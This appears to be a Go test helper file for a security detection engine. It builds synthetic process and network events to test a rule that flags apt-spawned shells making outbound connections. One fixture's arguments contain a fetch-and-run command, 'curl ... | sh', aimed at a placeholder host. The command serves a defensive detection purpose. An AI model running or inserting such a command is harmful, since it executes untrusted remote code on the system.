package rules

import (
	"net/netip"
	"testing"
	"time"
)

// t0 is an arbitrary event time; tests express times as offsets from it.
var t0 = time.Date(2026, 3, 24, 12, 0, 0, 0, time.UTC)

// shellExec is an event-1 candidate: `/bin/sh -c hook` exec'd by apt's fork
// (entity parentID) as the process entityID on host.
func shellExec(host, entityID string, at time.Duration) *Event {
	return &Event{
		Time:   t0.Add(at),
		Action: ActionExec,
		HostID: host,
		Process: Process{
			PID: 200, EntityID: entityID, Name: "sh", Executable: "/usr/bin/dash",
			Args:   []string{"/bin/sh", "-c", "curl -s http://example.invalid/x | sh"},
			Parent: Parent{PID: 100, EntityID: "apt-fork", Name: "apt", Executable: "/usr/bin/apt"},
		},
	}
}

// connectFrom is an event-2 candidate: a child of parentID on host tries to
// connect to ip.
func connectFrom(host, parentID, ip string, at time.Duration) *Event {
	return &Event{
		Time:   t0.Add(at),
		Action: ActionConnectionAttempt,
		HostID: host,
		Process: Process{
			PID: 300, EntityID: "child-of-" + parentID, Name: "curl", Executable: "/usr/bin/curl",
			Args:   []string{"curl", "-s", "http://example.invalid/x"},
			Parent: Parent{PID: 200, EntityID: parentID, Name: "sh", Executable: "/usr/bin/dash"},
		},
		Destination: netip.AddrPortFrom(netip.MustParseAddr(ip), 80),
		Outcome:     "failure",
		Errno:       "ENETUNREACH",
	}
}

// newAptEngine returns an engine running only AptNetcon.
func newAptEngine(t testing.TB, cfg EngineConfig) *Engine {
	t.Helper()
	e, err := NewEngine([]*Rule{AptNetcon()}, cfg)
	if err != nil {
		t.Fatalf("NewEngine: %v", err)
	}
	return e
}

// checkAccounting asserts the EngineStats identity: every started sequence
// is pending or ended in exactly one way.
func checkAccounting(t testing.TB, e *Engine) {
	t.Helper()
	s := e.Stats()
	ended := s.Matches + s.Replaced + s.Expired + s.Evicted + uint64(s.Pending)
	if s.Pending < 0 || s.Started != ended {
		t.Fatalf("stats do not add up: %+v (started %d, ended or pending %d)", s, s.Started, ended)
	}
}
